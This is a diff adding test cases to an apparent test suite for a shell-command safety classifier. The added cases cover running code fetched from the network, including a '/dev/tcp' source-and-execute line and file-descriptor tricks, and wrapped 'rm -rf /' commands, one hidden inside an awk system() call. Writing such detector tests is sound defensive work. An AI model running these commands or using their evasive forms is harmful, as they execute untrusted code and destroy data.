@@ -57,6 +57,9 @@ describe('what several commands do together', () => {
     ['curl -o x.json https://a.io/x; bash y.sh', false],
     ['curl https://a.io/x; ./run', false],
     ['cd "$X"; curl -o x.sh https://a.io/x; ./run', false],
+    ['exec 3>x.sh; curl https://a.io/x >&3; bash x.sh', true],
+    ['exec 3>x.sh; bash x.sh', false],
+    ['source /dev/stdin < /dev/tcp/a.io/80', true],
   ])('[EDGE-47] %s runs what it fetched: %s', (command, expected) => {
     expect(rules(command).includes('network.run-from-network')).toBe(expected)
   })
@@ -120,6 +123,10 @@ describe('what several commands do together', () => {
     ["frobnicate 'rm -rf /'", true],
     ['frobnicate rm -rf /', true],
     ['frobnicate', false],
+    ['frobnicate -rf /', true],
+    ['frobnicate -rf build', false],
+    ['frobnicate / home', false],
+    [`frobnicate -s 40 awk 'BEGIN { system("rm -rf /") }'`, true],
     ["frobnicate 'git push'", false],
     ['frobnicate rm', false],
     ["rg 'rm -rf /'", false],
